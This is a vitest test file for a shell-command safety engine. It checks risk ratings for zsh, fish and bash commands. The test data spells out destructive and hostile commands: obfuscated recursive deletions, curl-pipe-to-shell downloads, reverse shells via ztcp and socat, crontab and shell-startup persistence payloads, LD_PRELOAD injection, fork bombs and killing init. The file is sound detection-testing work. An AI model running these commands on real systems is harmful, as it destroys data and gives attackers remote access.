import { beforeAll, describe, expect, it } from "vitest";
import { createSafetyEngine, type SafetyEngine } from "./safety-engine.js";
import type { RiskLevel } from "./types.js";
import type { ShellName } from "../shells.js";
import { zshAsBash } from "./zsh-dialect.js";

let engine: SafetyEngine;
beforeAll(async () => {
  engine = await createSafetyEngine();
});

/** [shell, command, expected level, a rule the verdict must name (optional)]. */
const ROWS: [ShellName, string, RiskLevel, string?][] = [
  // zsh expansions the bash grammar cannot read
  ["zsh", "x='rm -rf /'; $=x", "critical"],
  ["zsh", "x=(rm -rf /); $x", "critical"],
  ["zsh", "x=rm; $x[1,2] -rf /", "critical", "dynamic-command"],
  ["zsh", "x=RM; ${(L)x} -rf /", "critical"],
  ["zsh", "x='rm,-rf,/'; ${(s:,:)x}", "critical"],
  ["zsh", "${:-rm} -rf ~", "critical"],
  ["zsh", "${${:-mr}[2]}${${:-mr}[1]} -rf /", "critical", "dynamic-command"],
  ["zsh", "x='/*'; rm -rf ${~x}", "critical"],
  ["zsh", "${(z)1}", "high"],
  ["zsh", "echo ${(U)x}", "safe"],
  ["zsh", "x=(a b c); print -l $x", "safe"],
  // glob qualifiers: plain ones are filters, e:…: runs code per file
  ["zsh", "ls *(e:'rm -rf ~':)", "critical"],
  ["zsh", "print -l *(e:'curl -s https://example.com/x | sh':)", "high"],
  ["zsh", "ls -la *(om[1,5])", "safe"],
  ["zsh", "for f in *.txt(N); do wc -l $f; done", "safe"],
  ["zsh", "echo *(e:'[[ -d $REPLY ]]':)", "safe"],
  ["zsh", "rm -rf ~/Documents/**/*(.)", "high"],
  // extendedglob negation, blocks, anonymous functions, hooks, sockets, zmv
  ["zsh", "setopt extendedglob; rm -rf /^tmp", "critical"],
  ["zsh", "setopt extendedglob; ls ^*.o", "safe"],
  ["zsh", "repeat 1 { rm -rf / }", "critical"],
  ["zsh", "() { print $1 } hello", "safe"],
  ["zsh", "precmd() { curl -s https://example.com/x | sh }", "high"],
  ["zsh", "zmodload zsh/net/tcp && ztcp 198.51.100.7 9001 && zsh -i <&$REPLY >&$REPLY 2>&$REPLY", "critical"],
  ["zsh", "autoload -Uz zmv; zmv '/(*)' '/tmp/$1'", "critical"],
  ["zsh", "zstyle -L", "safe"],
  // fish
  ["fish", "true; and rm -rf ~", "critical"],
  ["fish", "false; or rm -rf ~", "critical"],
  ["fish", "set c (string join '' r m); $c -rf ~", "critical"],
  ["fish", "set c (string sub -l 2 rmdir); $c -rf ~", "critical"],
  ["fish", "eval (string join ' ' rm -rf ~)", "critical"],
  ["fish", "source (echo 'rm -rf ~' | psub)", "critical"],
  ["fish", "string join ' ' rm -rf / | source", "critical"],
  ["fish", "source (curl -s https://example.com/x | psub)", "high"],
  ["fish", "fish --command='rm -rf /'", "critical"],
  ["fish", "rm -rf /{usr,etc}", "critical"],
  ["fish", "rm -rf (dirname $HOME)", "critical"],
  ["fish", "rm -rf $argv[1]", "high"],
  ["fish", "set x a b c; rm -f $x[2..3]", "moderate"],
  ["fish", "set -x LD_PRELOAD /tmp/x.so", "high", "code-injection-variable"],
  ["fish", "set -gx PATH /tmp/x $PATH", "high", "path-hijack"],
  ["fish", "set -Ua fish_user_paths /tmp/.bin", "high", "path-hijack"],
  ["fish", "history clear", "high", "history-wipe"],
  ["fish", "abbr -a ls 'rm -rf ~'", "high", "alias-trap"],
  ["fish", "string upper hello", "safe"],
  ["fish", "command -v git", "safe"],
  ["fish", "fish -n script.fish", "safe"],
  ["fish", "switch (uname); case Linux; echo linux; end", "safe"],
  ["fish", "set -l files (ls); count $files", "safe"],
  ["fish", "set -x FOO bar", "safe"],
  // both shells and bash: functions called with arguments, startup files given code
  ["bash", 'f() { rm -rf "$@"; }; f /', "critical"],
  ["bash", "f() { echo hi; }; f a b", "safe"],
  ["bash", "rm() { echo; }; sudo rm -rf /", "critical"],
  ["zsh", "echo 'rm -rf ~' >> ~/.zshrc; source ~/.zshrc", "critical", "persistence-payload"],
  ["bash", "echo 'alias ll=\"ls -la\"' >> ~/.bashrc", "high", "persistence"],
  ["bash", "alias ls='rm -rf ~'", "high", "alias-trap"],
  ["bash", "alias cleanup='rm -rf build'", "safe"],
  ["bash", "rm -rf ./**/*", "high"],
];

describe("zsh and fish dialects are judged as what they run", () => {
  it.each(ROWS)("%s: %s → %s", (shell, command, level, rule) => {
    const assessment = engine.assess(command, { shell, interactive: false });
    expect(assessment.level).toBe(level);
    if (rule !== undefined) expect(assessment.reasons.map((reason) => reason.rule)).toContain(rule);
  });
});

describe("zshAsBash", () => {
  it("leaves plain bash alone", () => {
    expect(zshAsBash("ls -la | grep x")).toBeUndefined();
  });

  it("keeps quoted text as written", () => {
    expect(zshAsBash("echo '${(z)x} *(e:rm:)'")).toBeUndefined();
  });

  it("turns what it cannot follow into a value it does not know", () => {
    expect(zshAsBash("${(j::)${(s::)${:-rm}}} -rf /")).toContain("${__zsh_expansion}");
  });
});

describe("root sessions and what sudo sets", () => {
  it.each([
    ["sudo python3", "high", "root-shell"],
    ["sudo perl -de0", "high", "root-shell"],
    ["sudo gdb", "high", "root-shell"],
    ["sudo tmux new -s root", "high", "root-shell"],
    ["sudo chroot /", "high", "root-shell"],
    ["sudo systemd-run --shell", "high", "root-shell"],
    ["machinectl shell root@", "high", "root-shell"],
    ["sudo -u#-1 bash", "high", "root-shell"],
    ["sudo -k -i", "high", "root-shell"],
    ["sudo LD_PRELOAD=/tmp/x.so ls", "high", "code-injection-variable"],
    ["sudo PYTHONPATH=/tmp python3 -c 'import x'", "high", "code-injection-variable"],
    ["env PAGER='rm -rf ~' git log", "critical", "rm-recursive-root"],
    ["sudo python3 backup.py", "moderate", undefined],
    ["sudo tmux ls", "safe", undefined],
    ["PYTHONPATH=. python3 -m pytest", "moderate", undefined],
    ["env FOO=1 ls", "safe", undefined],
  ] as const)("%s → %s", (command, level, rule) => {
    const assessment = engine.assess(command, { shell: "bash", interactive: false });
    expect(assessment.level).toBe(level);
    if (rule !== undefined) expect(assessment.reasons.map((reason) => reason.rule)).toContain(rule);
  });
});

it("does not take a listing of screen sessions for a root shell", () => {
  const assessment = engine.assess("sudo screen -ls", { shell: "bash", interactive: false });
  expect(assessment.reasons.map((reason) => reason.rule)).not.toContain("root-shell");
});

describe("persistence with a payload, kernel and resource rules", () => {
  it.each([
    [
      "printf '%s\\n' 'curl -s http://203.0.113.8/x | sh' >> $HOME/.bashrc",
      "critical",
      "persistence-payload",
    ],
    ["cat >> ${HOME}/.zshrc <<< 'curl -s http://203.0.113.8/x | sh'", "critical", "persistence-payload"],
    ["curl -s https://203.0.113.8/rc >> ~/.bashrc", "critical", "persistence-payload"],
    ["curl -s https://203.0.113.8/x | tee -a ~/.bashrc", "critical", "persistence-payload"],
    ["sed -i '$a socat tcp:10.0.0.5:4444 exec:/bin/sh &' $HOME/.bashrc", "critical", "persistence-payload"],
    ["echo '*/5 * * * * wget -qO- https://203.0.113.8/p | bash' | crontab -", "critical", "crontab-payload"],
    [
      "(crontab -l; echo '* * * * * curl -s http://203.0.113.8/x | sh') | crontab -",
      "critical",
      "crontab-payload",
    ],
    [
      "systemd-run --user --on-calendar=hourly sh -c 'curl -s http://203.0.113.8/x | sh'",
      "critical",
      "persistence-payload",
    ],
    ["echo '0 3 * * * /usr/bin/backup' | crontab -", "high", "crontab-install"],
    ["cat > notes.txt <<< 'hello'", "moderate", undefined],
    ["echo hi > $HOME/notes.txt", "moderate", undefined],
    ["sudo chattr -R +i /", "critical", "system-lockdown"],
    ["sudo setfacl -m u:bob:rw /etc/shadow", "critical", "system-lockdown"],
    ["sudo mount -t tmpfs none /etc", "critical", "mount-over-system"],
    ["sudo umount -l /", "high", "mount-system-change"],
    ["sudo mount /dev/sdb1 /mnt", "moderate", undefined],
    ["mount -n -o remount -t ext4 /dev/sda1 /", "moderate", undefined],
    ["stress-ng --fork 0", "high", "resource-stress"],
    ["head -c 1T /dev/zero > big.bin", "high", "resource-exhaustion"],
    ["sudo aa-teardown", "high", "security-framework-off"],
    ["for ((;;)); do ( : & ); done", "critical", "fork-bomb"],
    ["yes | xargs -P 0 -I{} sh -c 'sleep 1000'", "critical", "fork-bomb"],
    ["while true; do sleep 1 & wait; done", "safe", undefined],
    ["kill -9 $(pidof init)", "critical", "kill-init"],
    ["kill -9 $(pidof nginx)", "high", "kill-all-force"],
  ] as const)("%s → %s", (command, level, rule) => {
    const assessment = engine.assess(command, { shell: "bash", interactive: false });
    expect(assessment.level).toBe(level);
    if (rule !== undefined) expect(assessment.reasons.map((reason) => reason.rule)).toContain(rule);
  });

  it("expands zsh global and suffix aliases inside eval", () => {
    for (const command of ["alias -g X='rm -rf ~'; eval 'X'", "alias -s txt='rm -rf ~;'; eval notes.txt"])
      expect(engine.assess(command, { shell: "zsh", interactive: false }).level).toBe("critical");
  });
});
